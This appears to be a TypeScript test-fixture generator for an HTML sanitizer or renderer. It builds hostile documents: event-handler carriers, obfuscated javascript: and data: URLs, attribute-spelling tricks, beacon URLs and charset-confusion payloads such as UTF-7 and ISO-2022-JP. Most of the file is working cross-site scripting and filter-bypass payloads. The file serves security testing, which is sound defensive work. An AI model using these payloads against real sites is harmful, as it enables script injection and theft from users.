import { confusingDocuments, hostileSheets, hostileStyles, loadingDocuments } from './hostile-markup.ts';

/** A hostile document. */
export interface Vector {
  readonly family: string;
  /** The document, as bytes for those whose charset is part of the attack. */
  readonly html: string | Buffer;
  readonly contentType?: string;
}

/** Words of one family, separated by blanks. */
function words(text: string): string[] {
  return text.split(/\s+/).filter((word) => word !== '');
}

const handlers = words(`
  onabort onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy
  onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur onbounce
  oncancel oncanplay oncanplaythrough onchange onclick onclose oncontextlost oncontextmenu oncontextrestored oncopy
  oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop ondurationchange
  onemptied onend onended onerror onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange ongotpointercapture
  onhashchange oninput oninvalid onkeydown onkeypress onkeyup onlanguagechange onload onloadeddata onloadedmetadata
  onloadstart onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover
  onmouseup onmousewheel onoffline ononline onpagehide onpageshow onpaste onpause onplay onplaying onpointercancel
  onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup
  onpopstate onprogress onratechange onrepeat onreset onresize onscroll onscrollend onscrollsnapchange onsearch
  onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart onslotchange onstalled onstart
  onsubmit onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel
  ontransitionend ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange onwaiting onwheel
  onwebkitanimationend onwebkittransitionend`);

/** Elements on which handlers run, with `%` in place of the handler. */
const carriers = [
  '<img src=x %>',
  '<body %>text',
  '<svg %><animate attributeName=x dur=1s></svg>',
  '<input autofocus %>',
  '<details open %><summary>s</summary>d</details>',
  '<a href="#" tabindex=1 autofocus %>link</a>',
  '<video src=x autoplay muted %><source src=y %></video>',
  '<iframe src="about:blank" %></iframe>',
  '<style %>@keyframes k{from{left:0}to{left:1px}}</style><div style="animation:k 1ms" %>d</div>',
  '<marquee width=1 loop=1 %>m</marquee>',
  '<table background=x %><tr %><td %>c',
  '<object data="x" %></object>',
  '<select autofocus %><option %>o</select>',
  '<form %><textarea autofocus %></textarea></form>',
  '<math %><mi %>x</mi></math>',
  '<custom-element tabindex=1 contenteditable autofocus %>c</custom-element>',
  '<button popovertarget=p %>b</button><div id=p popover %>p</div>',
  '<dialog open %>d</dialog>',
];

/** Attributes whose value is a URL, with `%` in its place. */
const urlPlaces = [
  '<a href="%">a</a>',
  "<a href='%' target=_self>a</a>",
  '<map name=m><area shape=default href="%"></map><img usemap=#m src=x width=9 height=9>',
  '<form action="%"><input type=submit autofocus></form>',
  '<form id=f></form><button form=f formaction="%">b</button>',
  '<iframe src="%"></iframe>',
  '<embed src="%">',
  '<object data="%"></object>',
  '<img src="%">',
  '<input type=image src="%">',
  '<link rel=stylesheet href="%">',
  '<meta http-equiv=refresh content="0;url=%">',
  '<base href="%"><a href=x>a</a><img src=x>',
  '<svg><a xlink:href="%"><text y=20>t</text></a></svg>',
  '<svg><use href="%"></use><image href="%"></image></svg>',
  '<math><mtext href="%" xlink:href="%">m</mtext></math>',
  '<body background="%">b',
  '<table background="%"><td background="%">c',
  '<blockquote cite="%"><q cite="%">q</q></blockquote>',
  '<video poster="%" src="%"></video>',
  '<audio src="%" autoplay></audio>',
  '<video autoplay><source src="%"><track default src="%"></video>',
  '<img srcset="% 1x, % 2x" sizes=1px>',
  '<picture><source srcset="%"><img src="%"></picture>',
  '<frameset><frame src="%"></frameset>',
  '<applet code="%" codebase="%"></applet><bgsound src="%">',
  '<div style="background:url(%)">d</div>',
  '<style>body{background:url("%")}@import "%";</style>',
  '<script src="%"></script>',
  '<a ping="%" href="https://x.test/">a</a>',
  '<portal src="%"></portal><fencedframe src="%"></fencedframe>',
  '<html manifest="%"><body>x',
];

/** URLs that run a script where a browser goes to them. */
function scriptUrls(script: string): string[] {
  const name = 'javascript:';
  const each = (write: (character: string) => string) => [...name].map(write).join('');
  const code = (character: string) => character.charCodeAt(0);
  return [
    `${name}${script}`,
    `JaVaScRiPt:${script}`,
    ` \t\n${name}${script}`,
    `&#1;&#2;&#x1f;${name}${script}`,
    `java\tscript:${script}`,
    `java&#10;script:${script}`,
    `java&Tab;script&colon;${script}`,
    `java&NewLine;script:${script}`,
    each((character) => `&#${code(character)};`) + script,
    each((character) => `&#${String(code(character)).padStart(7, '0')}`) + script,
    each((character) => `&#x${code(character).toString(16)};`) + script,
    `${name}//%0a${script}`,
    `${name}/*--&gt;&lt;/title&gt;*/${script}`,
    `vbscript:${script}`,
    `data:text/html,<script>${script}</script>`,
    `data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString('base64')}`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script}'/>`,
    `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script></svg>`).toString('base64')}`,
    `view-source:${name}${script}`,
    `blob:${name}${script}`,
    `\u00a0${name}${script}`,
    `${name.toUpperCase()}${script}`,
    `feed:${name}${script}`,
    `jar:${name}${script}!/`,
  ];
}

/** URLs that tell somebody that they were loaded. */
function beaconUrls(beacon: string): string[] {
  const { host } = new URL(beacon);
  return [
    `${beacon}/u`,
    `HTTP://${host}/u`,
    `//${host}/u`,
    `\\\\${host}\\u`,
    `/\\${host}/u`,
    ` &#10;${beacon}/u`,
    `http:${host}/u`,
    '/v1/usage',
    '?remote=1',
    `ht\ntp://${host}/u`,
    `https://${host}/u`,
    `ws://${host}/u`,
    `ftp://${host}/u`,
    `file://${host}/u`,
    'cid:nothing',
  ];
}

/** Documents in a charset in which their markup is not what it seems. */
function charsetVectors(tag: string): Vector[] {
  const family = 'charsets';
  const utf7 = (text: string) =>
    text.replace(/[<>"]/g, (character) => `+${utf16(character).toString('base64').replace(/=/g, '')}-`);
  const html = `<p>x<${tag}>`;
  return [
    { family, html: utf7(html), contentType: 'text/html; charset=utf-7' },
    { family, html: utf7(html), contentType: 'text/html' },
    { family, html: `+/v8-${utf7(html)}`, contentType: 'text/html; charset=utf-8' },
    { family, html: `<meta charset=utf-7>${utf7(html)}`, contentType: 'text/html' },
    { family, html: Buffer.concat([Buffer.from([0xfe, 0xff]), utf16(html)]), contentType: 'text/html; charset=utf-16' },
    { family, html: Buffer.from(`\ufeff${html}`, 'utf16le'), contentType: 'text/html' },
    { family, html: Buffer.from(html, 'utf16le'), contentType: 'text/html; charset=utf-16le' },
    { family, html: `\ufeff${html}`, contentType: 'text/html; charset=utf-8' },
    { family, html: `\x1b$B<img src=x onerror=run()>\x1b(B${html}`, contentType: 'text/html; charset=iso-2022-jp' },
    {
      family,
      html: Buffer.concat([Buffer.from('<p title="'), Buffer.from([0x81]), Buffer.from(`"><${tag}>">`)]),
      contentType: 'text/html; charset=shift_jis',
    },
    {
      family,
      html: Buffer.concat([Buffer.from([0xc0, 0xbc]), Buffer.from(`${tag}>`)]),
      contentType: 'text/html; charset=utf-8',
    },
    {
      family,
      html: Buffer.concat([Buffer.from('<p title="'), Buffer.from([0xe2]), Buffer.from(`"><${tag}>">`)]),
      contentType: 'text/html; charset=utf-8',
    },
    { family, html: html.replace(/</g, '\uff1c').replace(/>/g, '\uff1e'), contentType: 'text/html; charset=utf-8' },
    { family, html: html.replace(/</g, '\ufe64'), contentType: 'text/html; charset=utf-8' },
    { family, html: `~{<${tag}>~}<${tag}>`, contentType: 'text/html; charset=hz-gb-2312' },
    { family, html, contentType: 'text/html; charset="x-user-defined"' },
    { family, html, contentType: 'text/html; charset=ebcdic-cp-us' },
  ];
}

function utf16(text: string): Buffer {
  return Buffer.from(text, 'utf16le').swap16();
}

/** Spellings of a tag with a handler. */
function spellings(script: string): string[] {
  const entities = [...script].map((character) => `&#${character.charCodeAt(0)};`).join('');
  return [
    `<img src=x onerror=${script}>`,
    `<img src=x onerror="${script}">`,
    `<img src=x onerror='${script}'>`,
    `<img src=x onerror=\`${script}\`>`,
    `<img/src=x/onerror=${script}>`,
    `<img\nsrc=x\nonerror\n=\n${script}>`,
    `<img\fsrc=x\fonerror=${script}>`,
    `<img src=x ONERROR=${script}>`,
    `<img src=x oNeRrOr=${script} onerror=x>`,
    `<IMG SRC=x onerror=${entities}>`,
    `<img src="x"onerror="${script}">`,
    `<img src='x'onerror='${script}'>`,
    `<img src=x onerror\u0000=${script}>`,
    `<img src=x \u0000onerror=${script}>`,
    `<img src=x "onerror=${script}">`,
    `<img src=x 'onerror=${script} '>`,
    `<img src=x\u00a0onerror=${script}>`,
    `<img src=x\u000bonerror=${script}>`,
    `<img src=x onerror=${script}//`,
    `<img src=x onerror=${script} x`,
    `<img alt="<" src=x onerror=${script}>`,
    `<img alt=">" src=x onerror=${script}>`,
    `<img """><img src=x onerror="${script}">`,
    `<img src="x` + '` `' + `<script>${script}</script>"` + '` `>',
    `<<img src=x onerror=${script}>`,
    `<img src=x onerror=${script} style=x:y hidden>`,
    `<img src=cid:known onload=${script}>`,
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=${script}>`,
    `<body/onload=${script}>`,
    `<body onload=${script} onload=x><body onload=${script}>`,
  ];
}

/** The hostile documents: each runs `script` or loads something from `beacon`, if anything lets it. */
export function vectorsFor({ beacon, script }: { beacon: string; script: string }): Vector[] {
  const run = (html: string) => html.replaceAll('run()', script);
  const tag = `img src=x onerror=${script}`;
  const all = (family: string, documents: readonly string[]): Vector[] => documents.map((html) => ({ family, html }));
  // Every other URL in each place: neighbours have the others.
  const inPlaces = (urls: readonly string[]) =>
    urlPlaces.flatMap((place, index) =>
      urls.filter((_, at) => (at + index) % 2 === 0).map((url) => place.replaceAll('%', () => url)),
    );
  const handled = handlers.flatMap((handler, index) =>
    [0, 5, 11].map((step) =>
      (carriers[(index + step) % carriers.length] ?? '').replaceAll('%', () => `${handler}="${script}"`),
    ),
  );
  const url = `${beacon}/s`;
  return [
    ...all('handlers', handled),
    ...all('spellings', spellings(script)),
    ...all('script URLs', inPlaces(scriptUrls(script))),
    ...all('remote URLs', inPlaces(beaconUrls(beacon))),
    ...all(
      'styles',
      hostileStyles.map(
        (css) =>
          `<div style="${run(css)
            .replaceAll('%', () => url)
            .replaceAll('"', '&quot;')}">x</div>`,
      ),
    ),
    ...all(
      'styles',
      hostileStyles.map((css) => `<style>body{${run(css).replaceAll('%', () => url)}}</style>x`),
    ),
    ...all(
      'style sheets',
      hostileSheets.map((css) => `<style>${run(css).replaceAll('%', () => url)}</style>x`),
    ),
    ...all(
      'confusions',
      confusingDocuments.map((html) => run(html).replaceAll('%', () => tag)),
    ),
    ...all(
      'loads',
      loadingDocuments.map((html) => run(html).replaceAll('%', () => url)),
    ),
    ...charsetVectors(tag),
  ];
}
